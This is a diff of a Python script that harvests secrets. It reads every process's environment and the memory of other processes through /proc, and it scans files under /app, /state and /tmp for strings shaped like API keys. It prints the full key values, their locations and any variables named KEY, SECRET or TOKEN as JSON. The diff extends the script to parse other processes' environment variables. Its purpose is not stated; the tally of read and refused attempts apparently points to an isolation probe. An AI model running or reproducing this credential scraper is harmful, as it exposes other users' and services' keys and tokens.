@@ -11,10 +11,14 @@ KEY = re.compile(rb"sk-[A-Za-z0-9_-]{8,}")
 CHUNK = 1 << 20
 OVERLAP = 512
 
-found, read, refused = set(), {"environ": 0, "memory": 0, "file": 0}, {}
+PLACES = 3
+
+# What looks like a key, and where; how much was read; what was refused, and why.
+found, read, refused = {}, {"environ": 0, "memory": 0, "file": 0}, {}
+env = dict(os.environ)
 
 
-def search(stream, size=None):
+def search(place, stream, size=None):
     """Reads `size` bytes, or all there is, and keeps what looks like a key."""
     tail = b""
     while size is None or size > 0:
@@ -22,7 +26,10 @@ def search(stream, size=None):
         if not data:
             return
         size = None if size is None else size - len(data)
-        found.update(match.decode() for match in KEY.findall(tail + data))
+        for match in KEY.findall(tail + data):
+            places = found.setdefault(match.decode(), [])
+            if place not in places and len(places) < PLACES:
+                places.append(place)
         tail = (tail + data)[-OVERLAP:]
 
 
@@ -37,7 +44,14 @@ def attempt(kind, path, action):
 
 def whole(path):
     with open(path, "rb", buffering=0) as stream:
-        search(stream)
+        search(path, stream)
+
+
+def environ(path):
+    whole(path)
+    with open(path, "rb") as stream:
+        pairs = (pair.partition(b"=") for pair in stream.read().split(b"\0") if pair)
+        env.update((name.decode(errors="replace"), value.decode(errors="replace")) for name, _, value in pairs)
 
 
 def memory(pid):
@@ -49,13 +63,13 @@ def memory(pid):
                 continue
             try:
                 stream.seek(start)
-                search(stream, end - start)
+                search(f"/proc/{pid}/mem", stream, end - start)
             except (OSError, OverflowError):
                 pass
 
 
 for pid in filter(str.isdigit, os.listdir("/proc")):
-    attempt("environ", f"/proc/{pid}/environ", lambda: whole(f"/proc/{pid}/environ"))
+    attempt("environ", f"/proc/{pid}/environ", lambda: environ(f"/proc/{pid}/environ"))
     if int(pid) != os.getpid():
         attempt("memory", f"/proc/{pid}/mem", lambda: memory(pid))
 for top in ("/app", "/state", "/tmp"):
@@ -65,5 +79,5 @@ for top in ("/app", "/state", "/tmp"):
             if os.path.isfile(path) and not os.path.islink(path):
                 attempt("file", path, lambda: whole(path))
 
-env = {name: value for name, value in os.environ.items() if re.search("KEY|SECRET|TOKEN", name)}
-print(json.dumps({"env": env, "found": sorted(found), "read": read, "refused": refused}))
+named = {name: value for name, value in env.items() if re.search("KEY|SECRET|TOKEN", name)}
+print(json.dumps({"env": named, "found": found, "read": read, "refused": refused}))
